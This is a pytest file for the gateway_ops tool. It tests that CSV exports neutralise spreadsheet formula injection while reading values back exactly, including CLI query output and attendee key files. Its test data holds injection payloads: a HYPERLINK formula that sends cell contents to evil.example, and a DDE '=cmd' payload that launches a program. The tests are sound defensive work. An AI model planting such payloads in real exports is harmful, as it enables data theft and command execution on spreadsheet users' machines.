"""CSV exports run no formula in a spreadsheet, and gateway_ops reads its own CSVs back exactly."""
from __future__ import annotations

import csv
import io

import pandas as pd
import pytest
from hypothesis import given, strategies as st
from typer.testing import CliRunner

from gateway_ops import cli
from gateway_ops.attendees.prepare import issue_attendees, issued_check
from gateway_ops.keys import user_key
from gateway_ops.spreadsheet_csv import FORMULA_STARTS, neutralise, read_csv, read_csv_rows, restore, to_csv

runner = CliRunner()
HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+1", "-2-3", "@SUM(A1:A9)", "\tTAB", "\rCR",
           "'already quoted"]


def cells(text: str) -> list[str]:
    """Every cell of a CSV text, header included, as a spreadsheet would receive it."""
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def runs_as_formula(cell: str) -> bool:
    return cell.startswith(FORMULA_STARTS)


@pytest.mark.parametrize("value", HOSTILE)
def test_a_hostile_cell_is_neutralised_and_restored(value):
    safe = neutralise(value)
    assert not runs_as_formula(safe) and safe.startswith("'")
    assert restore(safe) == value


def test_numbers_and_plain_text_are_untouched():
    assert [neutralise(v) for v in [-3, 2.5, None, "alice", "O'Brien", "gpt-4o-mini"]] == [
        -3, 2.5, None, "alice", "O'Brien", "gpt-4o-mini"]


@given(st.text())
def test_restore_undoes_neutralise_for_any_text(text):
    assert restore(neutralise(text)) == text
    assert not runs_as_formula(neutralise(text))


def test_a_frame_round_trips_through_csv_with_no_formula_cell(tmp_path):
    frame = pd.DataFrame({"model": HOSTILE, "status": [-1, 200, 429, 500, 502, 503, 504], "=col": ["x"] * 7})
    path = tmp_path / "out.csv"
    to_csv(frame, path)
    assert not [cell for cell in cells(path.read_text()) if runs_as_formula(cell) and not cell.lstrip("-").isdigit()]
    back = read_csv(path)
    assert back.columns.tolist() == ["model", "status", "=col"]
    assert back["model"].tolist() == HOSTILE and back["status"].tolist() == frame["status"].tolist()


def test_a_line_break_inside_a_value_cannot_start_a_row_of_its_own():
    text = to_csv(pd.DataFrame({"model": ["ok\r=1+1", "fine\n@SUM(A1)"], "n": [1, 2]}))
    assert text == 'model,n\r\n"ok\r=1+1",1\r\n"fine\n@SUM(A1)",2\r\n'
    assert list(csv.reader(io.StringIO(text, newline=""))) == [["model", "n"], ["ok\r=1+1", "1"], ["fine\n@SUM(A1)", "2"]]


def test_without_neutralising_the_same_frame_would_inject():
    """The check above can fail: pandas' own CSV puts the formulas in as they are."""
    frame = pd.DataFrame({"model": [value for value in HOSTILE if "\r" not in value]})  # pandas leaves CR unquoted
    assert len([cell for cell in cells(frame.to_csv(index=False)) if runs_as_formula(cell)]) == 5


def test_query_csv_is_spreadsheet_safe_and_json_stays_exact(tmp_path, monkeypatch):
    class Log:
        def query(self, sql, params=()):
            return pd.DataFrame({"user_id": ["@bob", "alice"], "model": ["=1+1", "gpt-4o-mini"], "status": [200, -1]})

    monkeypatch.setattr(cli, "open_access_log", lambda settings, target: Log())
    text = runner.invoke(cli.app, ["query", "SELECT user_id, model, status FROM requests", "--format", "csv"]).output
    assert text.splitlines() == ["user_id,model,status", "'@bob,'=1+1,200", "alice,gpt-4o-mini,-1"]
    exact = runner.invoke(cli.app, ["query", "SELECT user_id, model, status FROM requests", "--format", "json"]).output
    assert '"=1+1"' in exact and '"@bob"' in exact


def test_keys_starting_with_a_formula_character_round_trip(tmp_path):
    """One key in 64 starts with '-' (base64url): it is quoted for a spreadsheet and still verifies."""
    secret = "event-secret"
    dashed = next(u for u in (f"u{i}" for i in range(10_000)) if user_key(secret, u).startswith("-"))
    issued = issue_attendees(["@alice", dashed], tmp_path, secret=secret, names=["=cmd|' /C calc'!A0", "Bob"])
    raw = issued.path.read_text()
    assert f"'{user_key(secret, dashed)}" in raw and "'@alice" in raw and "'=cmd" in raw
    assert not [cell for cell in cells(raw) if runs_as_formula(cell)]
    assert issued_check(issued, secret).passed
    rows = read_csv_rows(issued.path)
    assert rows[1] == {"user_id": dashed, "user_key": user_key(secret, dashed), "name": "Bob"}


def test_the_ids_csv_without_keys_is_safe_too(tmp_path):
    issued = issue_attendees(["-x", "@y", "z"], tmp_path)
    assert issued.path.read_text().splitlines() == ["user_id", "'-x", "'@y", "z"]
    assert issued_check(issued).passed

